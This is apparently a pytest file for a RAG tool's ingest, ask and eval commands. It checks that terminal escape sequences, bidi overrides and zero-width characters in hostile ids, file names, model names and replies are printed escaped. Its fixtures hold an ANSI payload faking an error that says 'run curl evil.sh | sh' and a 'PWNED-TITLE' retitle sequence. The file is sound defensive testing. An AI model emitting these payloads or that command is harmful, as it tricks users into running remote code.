"""Hostile ids, titles, file names, model names and replies go through ingest, ask and eval shown, never obeyed."""
from __future__ import annotations

import json
import re

import pytest

from ingest.__main__ import main as ingest_main
from rag.chat.ask import main as ask_main
from rag.evaluation.cli import main as eval_main
from tests.fixtures.hostile import (
    CLEAR_AND_PAINT,
    HOSTILE_ID,
    HOSTILE_ID_SHOWN,
    HOSTILE_TITLE,
    HOSTILE_TITLE_SHOWN,
    INVISIBLE,
    INVISIBLE_SHOWN,
    RETITLE,
    RLO,
    TERMINAL_ACTIVE,
    hostile_records,
)

QUESTION = "Where can gift cards be redeemed?"


def assert_inert(*outputs: str) -> None:
    for output in outputs:
        assert not any(char in output for char in TERMINAL_ACTIVE), output


def assert_visible(*outputs: str) -> None:
    for output in outputs:
        assert not any(char in output for char in INVISIBLE), output


@pytest.fixture
def hostile_store(tmp_path, settings):
    """A store holding a record with escapes in its id, title and metadata, and a file name with an escape sequence."""
    docs = tmp_path / "docs"
    docs.mkdir()
    hostile_records(docs / "records.jsonl")
    (docs / f"note{RETITLE}.md").write_bytes(b"")
    return docs


def test_ingest_lists_hostile_ids_and_file_names_escaped(hostile_store, settings, capsys):
    code = ingest_main(["--dry-run", str(hostile_store)])
    dry, dry_err = capsys.readouterr()
    code_run = ingest_main([str(hostile_store)])
    out, err = capsys.readouterr()

    assert (code, code_run) == (1, 1)
    assert [line for line in dry.splitlines() if line.startswith("  add ")] == [f"  add {HOSTILE_ID_SHOWN}", "  add plain"]
    skipped = f"  {hostile_store}/note\\x1b]0;PWNED-TITLE\\x07.md: empty file"
    assert dry.splitlines()[-1] == skipped and out.splitlines()[-1] == skipped
    assert out.splitlines()[1] == "  added 2, updated 0, unchanged 0, removed 0, skipped 1"
    assert_inert(dry, dry_err, out, err)


def test_ask_streams_a_hostile_reply_and_lists_hostile_sources_escaped(hostile_store, settings, standin, capsys):
    ingest_main([str(hostile_store)])
    standin.reply = f"Redeem them at the front desk [1].{CLEAR_AND_PAINT} {RLO}done\r\nNext line."
    capsys.readouterr()

    code = ask_main([QUESTION])
    out, err = capsys.readouterr()

    assert (code, err) == (0, "")
    answer, sources = out.split("\n\nSources:\n")
    assert answer == (
        "Redeem them at the front desk [1].\\x1b[2J\\x1b[31mFAKE error: run curl evil.sh | sh\\x1b[0m \\u202edone\nNext line."
    )
    assert re.fullmatch(rf"  \[1\] {re.escape(HOSTILE_ID_SHOWN)}: {re.escape(HOSTILE_TITLE_SHOWN)}  score \d\.\d{{3}}",
                        sources.splitlines()[0])
    assert_inert(out, err)


def test_ask_json_escapes_every_terminal_character_and_parses_to_the_original_text(hostile_store, settings, standin, capsys):
    ingest_main([str(hostile_store)])
    standin.reply = f"Front desk [1].{CLEAR_AND_PAINT}\x9b{RLO}"
    capsys.readouterr()

    code = ask_main(["--json", QUESTION])
    out, err = capsys.readouterr()

    result = json.loads(out)
    assert (code, err) == (0, "")
    assert result["answer"] == f"Front desk [1].{CLEAR_AND_PAINT}\x9b{RLO}"
    assert (result["sources"][0]["doc_id"], result["sources"][0]["title"]) == (HOSTILE_ID, HOSTILE_TITLE)
    assert result["sources"][0]["metadata"]["course"] == f"evil{RETITLE}"
    assert_inert(out)


def test_a_hostile_model_name_is_escaped_in_the_error_line(hostile_store, settings, standin, capsys):
    ingest_main([str(hostile_store)])
    capsys.readouterr()

    code = ask_main(["--model", f"evil{CLEAR_AND_PAINT}", QUESTION])
    out, err = capsys.readouterr()

    assert code == 5
    assert err.startswith(
        "error: Model 'evil\\x1b[2J\\x1b[31mFAKE error: run curl evil.sh | sh\\x1b[0m' is not installed in Ollama at"
    )
    assert err.count("\n") == 1
    assert_inert(out, err)


def test_a_hostile_error_text_from_the_server_is_escaped_and_cut_short(hostile_store, settings, standin, capsys):
    ingest_main([str(hostile_store)])
    standin.garbage_after_chunks = 1
    capsys.readouterr()

    code = ask_main([QUESTION])
    out, err = capsys.readouterr()

    assert code == 8
    assert err == (
        "error: Ollama's reply broke off in the middle of the answer: it sent something that is not Ollama's JSON "
        "(an HTML page); the text above is incomplete. Ask again.\n"
    )
    assert out.startswith("The\n\nSources:\n  [1] ")


def test_eval_error_naming_hostile_csv_columns_is_escaped(tmp_path, settings, capsys):
    truth = tmp_path / "truth.csv"
    truth.write_text(f"question,doc{CLEAR_AND_PAINT}\nq,d\n")

    code = eval_main([str(truth)])
    out, err = capsys.readouterr()

    assert (code, out) == (1, "")
    assert err == (
        f"error: {truth} has no column 'document'; its columns are ['question', "
        "'doc\\x1b[2J\\x1b[31mFAKE error: run curl evil.sh | sh\\x1b[0m'].\n"
    )


def test_zero_width_characters_are_shown_escaped_by_ingest_and_ask_as_on_the_page(tmp_path, settings, standin, capsys):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "records.jsonl").write_text(json.dumps(
        {"id": f"gift{INVISIBLE}", "title": f"Gift{INVISIBLE} cards", "text": "Gift cards are redeemed at the front desk."}
    ) + "\n")
    standin.reply = f"At the front desk{INVISIBLE} [1]."

    ingest_code = ingest_main(["--dry-run", str(docs)])
    planned, _ = capsys.readouterr()
    ingest_main([str(docs)])
    capsys.readouterr()
    ask_code = ask_main([QUESTION])
    out, err = capsys.readouterr()
    json_code = ask_main(["--json", QUESTION])
    as_json, _ = capsys.readouterr()

    assert (ingest_code, ask_code, json_code, err) == (0, 0, 0, "")
    assert [line for line in planned.splitlines() if line.startswith("  add ")] == [f"  add gift{INVISIBLE_SHOWN}"]
    answer, sources = out.split("\n\nSources:\n")
    assert answer == f"At the front desk{INVISIBLE_SHOWN} [1]."
    assert re.fullmatch(rf"  \[1\] {re.escape(f'gift{INVISIBLE_SHOWN}: Gift{INVISIBLE_SHOWN} cards')}  score \d\.\d{{3}}",
                        sources.splitlines()[0])
    assert f'"title": "Gift{INVISIBLE_SHOWN} cards"' in as_json
    assert json.loads(as_json)["sources"][0]["title"] == f"Gift{INVISIBLE} cards"
    assert_visible(planned, out, as_json)


def test_eval_answers_shows_a_hostile_model_name_escaped_in_its_error_line_and_table(guide_store, settings, tmp_path,
                                                                                    monkeypatch, capsys):
    monkeypatch.setenv("RAG_STORE_DIR", str(guide_store))
    truth = tmp_path / "truth.csv"
    truth.write_text(f"question,document\n{QUESTION},x.md\n")
    model = f"evil{CLEAR_AND_PAINT}{INVISIBLE}"
    shown = f"evil\\x1b[2J\\x1b[31mFAKE error: run curl evil.sh | sh\\x1b[0m{INVISIBLE_SHOWN}"

    code = eval_main([str(truth), "--answers", "--models", model, "--out", str(tmp_path / "results.jsonl")])
    out, err = capsys.readouterr()

    assert code == 5
    assert err.startswith(f"error: Model {repr(model)[:-1]}") and f"Run `ollama pull {shown}`" in err
    assert err.count("\n") == 1
    assert out.splitlines()[1].startswith(f"{shown}  -")
    assert_inert(out, err)
    assert_visible(out, err)


def test_eval_answers_error_line_naming_a_hostile_file_is_escaped(guide_store, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("RAG_STORE_DIR", str(guide_store))
    truth = tmp_path / f"truth{RETITLE}{INVISIBLE}.csv"
    truth.write_text("question,doc\nq,d\n")

    code = eval_main([str(truth), "--answers"])
    out, err = capsys.readouterr()

    assert (code, out) == (1, "")
    assert err == (f"error: {tmp_path}/truth\\x1b]0;PWNED-TITLE\\x07{INVISIBLE_SHOWN}.csv has no column 'document'; "
                   "its columns are ['question', 'doc'].\n")
